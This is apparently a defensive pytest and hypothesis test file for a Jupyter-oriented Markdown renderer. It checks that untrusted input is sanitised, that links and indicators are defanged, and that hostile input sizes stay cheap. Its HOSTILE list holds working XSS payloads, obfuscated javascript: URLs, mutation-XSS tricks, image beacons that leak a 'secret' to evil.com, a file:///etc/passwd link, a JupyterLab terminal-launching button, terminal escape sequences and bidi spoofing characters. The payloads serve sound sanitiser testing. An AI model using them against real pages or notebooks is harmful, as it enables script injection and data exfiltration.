"""Untrusted Markdown: what must be harmless, what a link may be, and that hostile sizes cost linear time."""

from __future__ import annotations

import json
import time
from collections.abc import Callable

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from secgemini_jupyter.render.markdown import MAX_CHARS, inline_html, markdown_html

from .dom import assert_harmless, parse

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<style>body{display:none}</style>",
    "<form action=https://evil.com><input name=q><button>go</button></form>",
    '<button data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">run</button>',
    '<a id="jp-main" name="config" href="#">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<details open ontoggle=alert(1)>",
    "![x](https://evil.com/p.png?q=secret)",
    "![x][r]\n\n[r]: https://evil.com/p.png?q=secret",
    "[![x](https://evil.com/p.png)](https://evil.com/)",
    "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](//evil.com/x)",
    "[x](/api/contents)",
    "[x](#top)",
    '[x](https://ok.org "onmouseover=alert(1)")',
    '[x](https://ok.org/"onmouseover=alert(1)//)',
    "[x](https://good.org\\@evil.com/)",
    "[x](https://good.org@evil.com/)",
    "<javascript:alert(1)>",
    '```"><script>alert(1)</script>\nx\n```',
    '```python" onload=alert(1)\nx\n```',
    "| <b onclick=x>a</b> |\n|---|\n| <script>x</script> |",
    '| a |\n|:-:" style="x|\n',
    "[/x] [link=https://evil.com]x[/link]",
    "\x1b]52;c;aGk=\x07 \x1b]8;;https://evil.com\x1b\\x\x1b]8;;\x1b\\ \x1b[2J \x9b2J",
    "a\rb\r\nc",
    "user\u202egnp.exe \u2066x\u2069 a\u200bb \ufeff \U000e0041",
    "\ud800 lone \udfff",
    "&#x202e; &#0; &#x1b;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.mark.parametrize("source", HOSTILE)
@pytest.mark.parametrize("defang", [True, False])
def test_hostile_markdown_holds_nothing_but_the_allow_list(source: str, defang: bool) -> None:
    assert_harmless(markdown_html(source, defang=defang))
    assert_harmless(inline_html(source, defang=defang))


@given(st.text(), st.booleans())
@example("[x](http://[::1)", True)
@example("<http://[>", False)
@settings(max_examples=150, deadline=None)
def test_any_text_holds_nothing_but_the_allow_list(source: str, defang: bool) -> None:
    assert_harmless(markdown_html(source, defang=defang))


PIECES = st.sampled_from(
    "< > <script> <img onerror= src=x \" ' ` ``` ~~~ | --- \n \n\n [ ]( ) ![ :// https://evil.com javascript: &#106; >"
    " - * ** # 1. \t \\ <!-- --> <svg> </p> style= id=x a b . @ \x1b \u202e".split(" ")
)


@given(st.lists(PIECES, max_size=40).map("".join), st.booleans())
@settings(max_examples=150, deadline=None)
def test_markup_like_text_holds_nothing_but_the_allow_list(source: str, defang: bool) -> None:
    assert_harmless(markdown_html(source, defang=defang))


@given(st.text(alphabet="abc xyz,;!?\n", max_size=300))
@settings(max_examples=60, deadline=None)
def test_words_are_all_there_and_in_order(source: str) -> None:
    shown = assert_harmless(markdown_html(source)).text
    assert shown.split() == source.split()


def test_html_is_shown_as_the_text_that_it_is() -> None:
    assert "<script>alert(1)</script>" in assert_harmless(markdown_html("a <script>alert(1)</script>")).text


def test_a_link_is_followed_by_its_host() -> None:
    dom = assert_harmless(markdown_html("see [the entry](https://nvd.nist.gov/vuln/detail/CVE-2024-1)"))
    (link,) = dom.all("a")
    assert link.attributes == {
        "href": "https://nvd.nist.gov/vuln/detail/CVE-2024-1",
        "rel": "noopener noreferrer",
    }
    assert "the entry (nvd.nist.gov)" in dom.text


def test_mail_links_show_their_address() -> None:
    dom = assert_harmless(markdown_html("[write](mailto:soc@vendor.com)"))
    assert [link.attributes["href"] for link in dom.all("a")] == ["mailto:soc@vendor.com"]
    assert "write (soc@vendor.com)" in dom.text


@pytest.mark.parametrize(
    "source",
    [
        "<https://evil.com/x>",
        "[https://bank.com](https://evil.com/x)",
        "[bank.com](https://evil.com/x)",
        "[evil[.]com](https://evil.com/x)",
        "the host evil.com is malicious, see [this page](https://evil.com/x)",
        "`evil.com` and [this page](https://evil.com/x)",
        "evil[.]com and [this page](https://evil.com/x)",
        "| evil.com |\n|---|\n| [this page](https://EVIL.com/x) |",
        "[page](http://203.0.113.9/x)",
        "[page](http://2130706433/)",
        "[page](https://user@evil.com/x)",
        "[page](https://good.org\\@evil.com/x)",
        "[page](ftp://evil.com/x)",
    ],
)
def test_a_link_that_is_evidence_cannot_be_clicked(source: str) -> None:
    """Its text names a target, or the answer mentions the host, or browsers may read the URL differently."""
    dom = assert_harmless(markdown_html(source))
    assert dom.all("a") == []
    assert "https://evil.com" not in dom.text


def test_without_defanging_links_to_hosts_can_be_clicked_and_show_them() -> None:
    dom = assert_harmless(markdown_html("[bank.com](https://evil.com/x)", defang=False))
    assert [link.attributes["href"] for link in dom.all("a")] == ["https://evil.com/x"]
    assert "bank.com (evil.com)" in dom.text


def test_images_become_their_text_and_url() -> None:
    dom = assert_harmless(markdown_html("![a chart](https://evil.com/p.png?q=1)"))
    assert dom.all("img") == []
    assert "[image: a chart – hxxps://evil[.]com/p.png?q=1]" in dom.text


def test_indicators_are_defanged_in_prose_tables_and_inline_code_not_in_code() -> None:
    source = (
        "10.1.2.3 `10.1.2.3`\n\n| h |\n|---|\n| 10.1.2.3 |\n\n```\n10.1.2.3\n```\n\n```python\nping('10.1.2.3')\n```"
    )
    text = assert_harmless(markdown_html(source)).text
    assert text.count("10[.]1[.]2[.]3") == 4
    assert "ping('10.1.2.3')" in text
    assert assert_harmless(markdown_html(source, defang=False)).text.count("10.1.2.3") == 5


def test_numbers_align_right_and_text_left() -> None:
    dom = assert_harmless(markdown_html("| a | b | c |\n|---|---|--:|\n| x | 1,200 | y |"))
    assert ["text-align:right" in cell.attributes["style"] for cell in dom.all("td")] == [False, True, True]
    assert ["text-align:right" in cell.attributes["style"] for cell in dom.all("th")] == [False, True, True]


def test_headings_stay_below_those_of_the_notebook() -> None:
    dom = assert_harmless(markdown_html("# a\n\n## b\n\n###### c"))
    assert [e.tag for e in dom.elements if e.tag.startswith("h")] == ["h3", "h4", "h6"]


def test_an_ordered_list_keeps_its_first_number() -> None:
    (numbered,) = assert_harmless(markdown_html("7. a\n8. b")).all("ol")
    assert numbered.attributes["start"] == "7"


def test_code_is_marked_by_weight_and_stays_the_same_text() -> None:
    dom = assert_harmless(markdown_html("```python\ndef f(x):  # <b>\n    return x\n```"))
    assert dom.all("code")[0].text == "def f(x):  # <b>\n    return x"
    assert {span.text.strip() for span in dom.all("span")} >= {"def", "return"}


def test_what_is_left_out_is_said() -> None:
    text = assert_harmless(markdown_html("x " * MAX_CHARS)).text
    assert f"{MAX_CHARS:,} more characters not shown here" in text


def test_deep_nesting_is_flattened_and_loses_no_text() -> None:
    quotes = "> " * 10_000 + "the end"
    lists = "\n".join("  " * depth + f"- item{depth}" for depth in range(300))
    for source, words in ((quotes, ["the end"]), ("- " * 10_000 + "the end", ["the end"]),
                          (lists, [f"item{depth}" for depth in range(300)])):  # fmt: skip
        dom = assert_harmless(markdown_html(source))
        assert all(word in dom.text for word in words)
        assert "nesting deeper" in dom.text
        assert max(len(element.path) for element in dom.elements) < 80


LARGE: dict[str, Callable[[int], str]] = {
    "one line": lambda n: "word " * (n // 5),
    "one word": lambda n: "a" * n,
    "dots": lambda n: "1." * (n // 2),
    "brackets": lambda n: "[" * n,
    "images": lambda n: "![" * (n // 2),
    "links": lambda n: "[](" * (n // 3),
    "emphasis": lambda n: "*a _b " * (n // 6),
    "paragraphs of brackets": lambda n: ("[" * 1_000 + "\n\n") * (n // 1_002),
    "backticks": lambda n: "".join("`" * i + " " for i in range(int((2 * n) ** 0.5))),
    "quotes": lambda n: ">" * n,
    "lists": lambda n: "- " * (n // 2),
    "lazy quote": lambda n: "> a\n" + "a\n" * (n // 2),
    "quoted lines": lambda n: "> a\n" * (n // 4),
    "stairs": lambda n: "\n".join(" " * i + "- a" for i in range(int((2 * n) ** 0.5))),
    "wide table": lambda n: "|a" * 400 + "|\n" + "|-" * 400 + "|\n" + "|a|\n" * (n // 4),
    "references": lambda n: "".join(f"[r{i}]: http://x/{i}\n" for i in range(n // 20)),
    "invisible": lambda n: "\u202e" * n,
    "marks": lambda n: "a" + "\u0301" * n,
}


@pytest.mark.parametrize("name", LARGE)
def test_a_million_characters_cost_little_more_than_what_is_shown(name: str) -> None:
    """Cost is bounded by the cap, not by the input: a tenth of the cap tells how much the cap may cost."""
    markdown_html("warm *up* http://evil.com")

    def cost(size: int) -> float:
        source = LARGE[name](size)
        start = time.process_time()
        markdown_html(source)
        return time.process_time() - start

    small = min(cost(MAX_CHARS // 10) for _ in range(2))
    assert cost(1_000_000) < 10 * 3 * max(small, 0.01)


def test_a_long_value_in_a_table_may_break_and_a_short_one_stays_together() -> None:
    dom = parse(markdown_html(f"| a | b |\n|---|---|\n| `{'x' * 90}` | `short` |"))
    long, short = (element.attributes["style"] for element in dom.elements if element.tag == "code")
    assert "overflow-wrap:anywhere" in long
    assert "overflow-wrap" not in short


def test_an_answer_that_is_json_is_code_and_its_values_are_no_markdown() -> None:
    value = {"user": "[Reset your password](https://evil.example/login) **now** ```", "n": [1, 2]}
    shown = markdown_html(json.dumps(value, indent=2))
    dom = assert_harmless(shown)
    assert not dom.all("a")
    assert not dom.all("strong")
    assert json.loads(dom.all("pre")[0].text) == value
    assert not assert_harmless(markdown_html("[see](https://example.com/a)")).all("pre")
    assert not assert_harmless(markdown_html('{"a": 1} is what it says')).all("pre")
